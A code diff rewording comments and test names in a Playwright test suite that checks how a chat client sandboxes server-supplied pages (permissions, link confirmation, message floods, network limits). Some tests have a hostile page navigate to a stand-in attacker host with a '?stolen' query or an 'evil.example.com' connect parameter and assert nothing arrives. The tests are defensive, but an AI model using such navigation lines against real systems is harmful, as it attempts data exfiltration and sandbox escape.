@@ -1,4 +1,4 @@
-/** Pages that servers bring along (MCP Apps), in a real window: the good one works, and the bad one gets nowhere. */
+/** Pages of servers (MCP Apps), in a real window: the good one works, and the bad one reaches nothing. */
 import { createServer } from 'node:net'
 import type { AddressInfo } from 'node:net'
 import type { Frame, Page } from 'playwright-core'
@@ -11,7 +11,7 @@ import { startTestWeb } from '#test/support/testWeb'
 import { makeTemporaryFolder, type TemporaryFolder } from '#test/support/temporaryFolder'
 import { serverFile } from '#test/support/testServers'
 
-/** Whatever connects to it, by any protocol. */
+/** Any connection to it, over any protocol. */
 async function startEvil() {
   const heard: string[] = []
   const server = createServer((socket) => {
@@ -50,7 +50,7 @@ async function show(page: Page, name: string, inBrowser: boolean): Promise<void>
   if (inBrowser) await page.getByRole('button', { name: 'Show pages of pages' }).click()
 }
 
-/** What a page gets from there, in its own words. */
+/** The response that a page gets from there, as text. */
 const fetched = (frame: Frame, address: string): Promise<string> =>
   frame.evaluate(
     `fetch(${JSON.stringify(address)}).then((answer) => answer.text(), (error) => 'refused: ' + error.message)`,
@@ -65,7 +65,7 @@ const pictureFrom = (address: string) => `new Promise((resolve) => {
 
 describe.each(hosts)('in %s', (host, opener) => {
   const inBrowser = host === 'a browser'
-  /** What was sent to it. A browser opens connections beforehand, and calls from a frame in a frame, with nothing in them. */
+  /** The data sent to it. A browser opens connections in advance, and empty ones from a nested frame. */
   const sentToEvil = () => (inBrowser ? evil.heard.filter((line) => /^[A-Z]+ \//.test(line)) : evil.heard)
   let folder: TemporaryFolder
   let app: OpenedApp
@@ -93,7 +93,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     await folder.remove()
   })
 
-  test('[R32] a page is told what its tool was given and answered, and how the window looks', async () => {
+  test('[R32] a page receives its tool’s arguments and result, and the theme of the window', async () => {
     const { page } = app
     await chooseTheme(page, 'Dark')
     await show(page, 'counter', inBrowser)
@@ -106,7 +106,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     expect(model.asked.at(-1)?.tools.filter((name) => name.includes('bump'))).toEqual([])
   })
 
-  test('[R32] it has no more room than others leave it', async () => {
+  test('[R32] a page gets no more room than others leave it', async () => {
     const height = await apps(app.page)
       .last()
       .locator('iframe')
@@ -114,7 +114,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     expect(height).toBe(640)
   })
 
-  test('[R32] it calls a tool of its own server when a person allows it, as every call', async () => {
+  test('[R32] a page calls a tool of its own server with the user’s permission, like every call', async () => {
     const { page } = app
     const frame = await pageOf(page)
     await frame.getByRole('button', { name: 'Add one' }).click()
@@ -125,7 +125,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     await expect.poll(() => frame.locator('#count').innerText()).toBe('Count: 42')
   })
 
-  test('[R32] a link is asked about, and words go into the box and no further', async () => {
+  test('[R32] a link needs confirmation, and text goes into the message box and no further', async () => {
     const { page } = app
     const frame = await pageOf(page)
     await frame.getByRole('button', { name: 'Read more' }).click()
@@ -139,7 +139,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     await messageBox(page).fill('')
   })
 
-  test('[R32] a hostile page reaches nothing: no network, no window, no store, no other server', async () => {
+  test('[R32] a hostile page reaches nothing: no network, no window, no storage, no other server', async () => {
     const { page } = app
     const address = page.url()
     await show(page, 'hostile', inBrowser)
@@ -154,13 +154,13 @@ describe.each(hosts)('in %s', (host, opener) => {
     expect(sentToEvil()).toEqual([])
   })
 
-  test('[R32] a page that goes elsewhere, even to its own document with other rights, is ended', async () => {
+  test('[R32] a page that navigates away, even to its own document with other rights, is ended', async () => {
     const { page } = app
     const frame = await pageOf(page)
     await frame.evaluate(`void setTimeout(() => (location.href = '${evil.url}/self?stolen'))`)
     await show(page, 'hostile', inBrowser)
     const other = await pageOf(page)
-    // What is set off in the empty document before it goes with that document.
+    // A timer set in the initial empty document is lost with that document.
     await other.locator('#found').waitFor({ state: 'attached' })
     await other.evaluate(`void setTimeout(() => (location.search = '?connect=https%3A%2F%2Fevil.example.com'))`)
     await page.getByText('The page tried to navigate away and was closed.').waitFor()
@@ -168,7 +168,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     expect(sentToEvil()).toEqual([])
   })
 
-  test('[R32] a page that says too much is ended, and the window goes on', async () => {
+  test('[R32] a page that sends too much is ended, and the window keeps working', async () => {
     const { page } = app
     await show(page, 'flood', inBrowser)
     await page.getByText('The page sent too many messages and was closed.').waitFor()
@@ -177,7 +177,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     await messageBox(page).fill('')
   })
 
-  test('[R32] a page that wants the web is shown only after a person saw the addresses, and only the web is among them', async () => {
+  test('[R32] a page that wants web addresses is shown only after the user saw them, and only https is offered', async () => {
     const { page } = app
     const before = heard().length
     await show(page, 'networked', inBrowser)
@@ -193,7 +193,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     expect(heard()).toHaveLength(before)
   })
 
-  test('[R32] allowed, it reaches the addresses that were shown, as nobody in particular, and none beside', async () => {
+  test('[R32] a page that was allowed addresses reaches exactly those, from an opaque origin', async () => {
     const { page } = app
     const before = heard().length
     await show(page, 'networked', inBrowser)
@@ -220,7 +220,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     expect(sentToEvil()).toEqual([])
   })
 
-  test('[R32] what one page was allowed is no right of another page, nor of the same in another conversation', async () => {
+  test('[R32] permissions of one page do not apply to another page, nor to the same one in another conversation', async () => {
     const { page } = app
     const before = heard().length
     await send(page, 'show_counter')
@@ -234,7 +234,7 @@ describe.each(hosts)('in %s', (host, opener) => {
     expect(heard()).toHaveLength(before)
   })
 
-  test('[R32] what is not looked at any more is gone', async () => {
+  test('[R32] a page scrolled out of sight is unloaded', async () => {
     const { page } = app
     await newConversation(page)
     expect(page.frames()).toHaveLength(1)
